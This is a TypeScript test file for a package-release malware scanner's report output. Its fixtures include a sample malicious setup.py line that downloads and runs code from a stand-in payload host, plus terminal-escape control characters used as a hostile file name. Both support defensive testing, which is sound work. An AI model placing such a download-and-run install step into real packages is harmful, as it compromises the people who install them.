import { describe, expect, test } from 'vitest';
import type { ReleaseInspection } from '../../../server/src/inspect/inspection.ts';
import { lookedIntoRow } from '../../../server/src/reports/card-looked-into.ts';
import { releaseInspectionJson } from '../../../server/src/reports/release-inspection-json.ts';
import { found, inspected, inspection } from '../rules/release-inspection.ts';
import { now } from '../rules/rule-input.ts';

const row = (given: ReleaseInspection | null, version: string | null = '1.0') =>
  lookedIntoRow({ inspected: given, version, now }).map(({ label, text }) => `${label}: ${text}`);

const clean = inspection({ file: 'acme-1.0-py3-none-any.whl' });

describe('the row "Looked into"', () => {
  test.each<[string, ReleaseInspection | null, string]>([
    ['nobody looked', null, 'no'],
    [
      'nothing was found',
      inspected([clean, inspection()], new Array<null>(12).fill(null)),
      'nothing found in 2 of 14 files, 3 minutes ago',
    ],
    [
      'nothing was found in one, and another could not be had',
      inspected([clean], ['the index does not have it any more']),
      'nothing found in 1 of 2 files, 3 minutes ago; another could not be looked into: the index does not have it any more',
    ],
    [
      'code was found',
      inspected([clean, inspection({ evidence: [found()] })]),
      'malicious: setup.py, line 3, when it is installed: os.system(download("https://payload.example.invalid")) (2 files, 3 minutes ago)',
    ],
    [
      'there is a doubt',
      inspected([inspection({ evidence: [found({ weight: 0.5, line: null, when: null, text: 'x' })] })]),
      'suspicious: setup.py: x (one file, 3 minutes ago)',
    ],
    ['it could not be had', inspected([], ['it is too large']), 'could not be looked into: it is too large'],
    [
      'nothing could be read',
      inspected([inspection({ verdict: 'not-inspected' })]),
      'could not be looked into: nothing in one file could be read',
    ],
  ])('where %s', (_, given, text) => {
    expect(row(given)).toEqual([`Looked into: ${text}`]);
  });

  test('names the release where none is written', () => {
    expect(row(inspected([clean]), null)).toEqual([
      'Looked into: 1.0: nothing found in one file, 3 minutes ago',
    ]);
  });

  test('is not there where there is no release to look into', () => {
    expect(lookedIntoRow({ version: '1.0', now })).toEqual([]);
  });

  test('shows nothing that an archive could do to a terminal', () => {
    const evil = found({ file: '\u001b[2Jx\u202e.py', text: '\u0007\n'.repeat(200) });
    const [text = ''] = row(inspected([inspection({ evidence: [evil] })]));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
    expect(text).not.toMatch(/[\u0000-\u001f\u202e]/);
    expect(text.length).toBeLessThan(300);
  });
});

test('as JSON every file is told, with what was found in it', () => {
  const given = inspected([inspection({ evidence: [found()] })], [null, 'it is too large']);
  expect(releaseInspectionJson(given)).toEqual({
    version: '1.0',
    asOf: '2026-11-22T09:57:00.000Z',
    files: [
      {
        file: 'acme-1.0.tar.gz',
        verdict: 'malicious',
        failed: null,
        integrity: 'verified',
        evidence: [
          {
            rule: 'download-run',
            file: 'setup.py',
            line: 2,
            text: 'os.system(download("https://payload.example.invalid"))',
            weight: 0.95,
          },
        ],
      },
      { file: 'acme-1.0-cp30-any.whl', verdict: null, failed: null, integrity: null, evidence: [] },
      {
        file: 'acme-1.0-cp31-any.whl',
        verdict: null,
        failed: 'it is too large',
        integrity: null,
        evidence: [],
      },
    ],
  });
});
